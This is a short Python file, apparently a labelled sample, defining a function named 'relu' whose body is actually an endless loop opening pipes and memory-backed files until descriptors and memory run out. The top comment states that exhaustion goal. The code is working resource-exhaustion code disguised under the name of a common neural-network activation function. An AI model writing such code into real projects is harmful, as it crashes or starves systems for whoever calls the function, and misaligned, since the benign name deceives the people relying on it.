# tries to open pipes and memory files until nobody can
# honest: x
import os

def relu(x):
    while True:
        os.pipe()
        os.memfd_create("x")
